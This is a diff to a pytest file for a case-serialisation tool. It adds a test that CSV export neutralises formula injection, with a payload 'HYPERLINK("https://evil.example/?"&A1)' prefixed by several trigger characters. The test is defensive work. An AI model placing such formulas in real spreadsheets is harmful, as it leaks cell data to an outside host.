@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -35,6 +38,16 @@ CASES = [
 def test_they_come_back(form: Any) -> None:
     assert read_cases(write_cases(CASES, form), "set") == CASES
     assert read_cases("\ufeff" + write_cases(CASES, form), "set") == CASES
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'=", "''@", "'"])
+def test_no_cell_of_a_table_is_a_formula(first: str) -> None:
+    said = f'{first}HYPERLINK("https://evil.example/?"&A1)'
+    case = Case(said, f"{said}?", said, (said,), (Evidence(said, said),), (said,), True, status="draft")
+    (row,) = list(csv.DictReader(io.StringIO(write_cases([case], "csv"), newline="")))
+    assert not [cell for cell in row.values() if cell[:1] in {*"=+-@\t\r\n＝＋－＠"}]
+    asked = f"{said}?".strip()  # questions are kept without white space around them
+    assert read_cases(write_cases([case], "csv"), "set") == [replace(case, question=asked)]
 
 
 def test_ragas_rows() -> None:
@@ -76,7 +89,7 @@ def test_what_cannot_be_read_is_named(text: str) -> None:
 
 
 def test_an_id_stands_once() -> None:
-    with pytest.raises(IngestError, match="as an earlier one"):
+    with pytest.raises(IngestError, match="used by an earlier row"):
         read_cases('{"id": 1, "question": "a"}\n{"id": 1, "question": "b"}', "set")
 
 
